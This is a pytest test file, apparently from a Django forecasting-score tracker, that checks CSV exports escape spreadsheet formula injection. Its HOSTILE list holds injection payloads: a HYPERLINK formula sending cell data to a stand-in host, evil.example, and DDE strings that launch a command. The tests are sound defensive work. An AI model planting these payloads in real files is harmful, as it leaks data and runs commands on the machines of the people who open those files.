"""CSV exports never hand a spreadsheet a formula (F8): a statement
=HYPERLINK("http://evil.example/?"&A1,"click") was imported and exported verbatim in the
public /forecasters/scores.csv and /forecasters/<slug>/scores.csv."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from tracker.csv_safe import safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# The import folds white space in statements, so a leading tab or CR never gets that far.
IMPORTABLE = HOSTILE[:4]


@pytest.mark.parametrize(("cell", "written"), [
    *[(text, "'" + text) for text in HOSTILE],
    ("A fair statement.", "A fair statement."),
    ("", ""),
    ("'=already text", "'=already text"),
    ("-0.693147", "-0.693147"),  # a log score: a number, kept
    ("+5", "+5"), ("-1e-05", "-1e-05"), ("-.5", "-.5"),
    (-0.5, -0.5), (3, 3), (None, None),
])
def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(cell, written):
    assert safe_cell(cell) == written


def test_the_public_exports_carry_hostile_statements_as_text(client, seeded, tmp_path):
    rows = "".join(
        f'stephen-casper,csv-test,CSV test,"{text.replace(chr(34), chr(34) * 2)}",0.5,'
        f"2025-01-01,no\n" for text in IMPORTABLE)
    path = tmp_path / "hostile.csv"
    path.write_text("forecaster,set,set_title,statement,probability,made_on,outcome\n" + rows,
                    encoding="utf-8")
    call_command("import_predictions", str(path), stdout=io.StringIO())

    for url in ("/forecasters/scores.csv", "/forecasters/stephen-casper/scores.csv"):
        response = client.get(url)
        table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content)
                                                .decode())))
        exported = {row["statement"]: row for row in table
                    if row["prediction_set"] == "csv-test"}
        assert sorted(exported) == sorted("'" + text for text in IMPORTABLE), url
        for row in table:
            assert not row["statement"].startswith(("=", "+", "-", "@", "\t", "\r")), url
        # Numbers stay numbers: a 50% forecast that did not happen scores log(0.5).
        assert {row["log_score"] for row in exported.values()} == {"-0.693147"}, url
        assert {row["probability"] for row in exported.values()} == {"0.5"}, url
